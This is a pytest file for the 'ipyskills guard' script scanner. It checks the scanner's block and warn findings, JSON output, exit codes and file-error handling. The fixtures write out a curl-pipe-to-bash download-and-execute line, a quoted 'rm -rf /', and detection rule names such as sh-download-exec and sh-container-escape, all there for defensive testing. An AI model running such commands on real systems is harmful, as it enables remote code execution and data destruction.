"""`ipyskills guard` run as a real subprocess: text and JSON output, exit codes."""

from __future__ import annotations

import json
import os
import subprocess
import sys


def guard(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "ipyskills", "guard", *map(str, args)],
                          check=False, capture_output=True, text=True, timeout=60, cwd=cwd)


def test_text_output_one_finding_a_line_and_exit_1_when_blocked(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text("import os\nimport requests\n\nos.system(cmd)\nrequests.get(url)\n")
    ok = tmp_path / "ok.sh"
    ok.write_text("echo 'rm -rf /'\n")
    proc = guard("bad.py", "ok.sh", cwd=tmp_path)
    assert proc.returncode == 1
    lines = proc.stdout.splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("bad.py:4: [block] py-shell: `os.system()`")
    assert lines[1].startswith("bad.py:5: [warn] py-network: `requests.get()`")
    assert "checked 2 file(s): 1 blocked, 0 with warnings only" in proc.stderr


def test_warnings_only_exit_0(tmp_path):
    script = tmp_path / "get.sh"
    script.write_text("curl -o x.json https://example.com/x.json\n")
    proc = guard(script)
    assert proc.returncode == 0
    assert proc.stdout.startswith(f"{script}:1: [warn] sh-network: ")


def test_json_output(tmp_path):
    bad = tmp_path / "bad.sh"
    bad.write_text("echo hi\ncurl -s https://x.example | bash\n")
    clean = tmp_path / "clean.js"
    clean.write_text("console.log(1)\n")
    proc = guard("--json", bad, clean)
    assert proc.returncode == 1
    data = json.loads(proc.stdout)
    assert [(d["path"], d["blocked"]) for d in data] == [(str(bad), True), (str(clean), False)]
    assert {(f["rule"], f["severity"], f["line"]) for f in data[0]["findings"]} == {
        ("sh-download-exec", "block", 2), ("sh-network", "warn", 2)}
    assert set(data[0]["findings"][0]) == {"rule", "severity", "line", "message", "path"}
    assert data[1]["findings"] == []


def test_missing_file_is_a_reported_failure(tmp_path):
    ok = tmp_path / "ok.py"
    ok.write_text("print(1)\n")
    proc = guard(ok, tmp_path / "missing.py")
    assert proc.returncode == 1
    assert "missing.py: no such file" in proc.stderr
    proc = guard("--json", tmp_path / "missing.py")
    assert proc.returncode == 1
    assert json.loads(proc.stdout) == [{"path": str(tmp_path / "missing.py"), "blocked": False,
                                        "findings": [], "error": "no such file"}]


def test_a_fifo_is_reported_as_not_a_regular_file_not_as_missing(tmp_path):
    fifo = tmp_path / "pipe.py"
    os.mkfifo(fifo)
    proc = guard(fifo)
    assert proc.returncode == 1
    assert "pipe.py: not a regular file" in proc.stderr and "no such file" not in proc.stderr


def test_a_path_the_os_refuses_is_reported_not_a_traceback(tmp_path):
    proc = guard(tmp_path / ("a" * 5000 + ".py"))  # over NAME_MAX: stat fails with ENAMETOOLONG
    assert proc.returncode == 1
    assert "no such file" in proc.stderr and "Traceback" not in proc.stderr


def test_folder_means_its_scripts(tmp_path):
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "a.py").write_text("print(1)\n")
    (tmp_path / "scripts" / "b.sh").write_text("docker ps\n")
    (tmp_path / "README.md").write_text("docker ps\n")
    proc = guard("--json", tmp_path)
    assert proc.returncode == 1
    assert [(d["path"], d["blocked"]) for d in json.loads(proc.stdout)] == [
        (str(tmp_path / "scripts" / "a.py"), False), (str(tmp_path / "scripts" / "b.sh"), True)]


def test_language_override(tmp_path):
    script = tmp_path / "task"  # no extension, no shebang: not parsed as shell unless asked
    script.write_text("docker ps\n")
    assert guard(script).returncode == 0
    proc = guard("--language", "shell", script)
    assert proc.returncode == 1
    assert "sh-container-escape" in proc.stdout


def test_usage_errors_exit_2():
    assert guard().returncode == 2
    assert guard("--language", "cobol", "x.py").returncode == 2
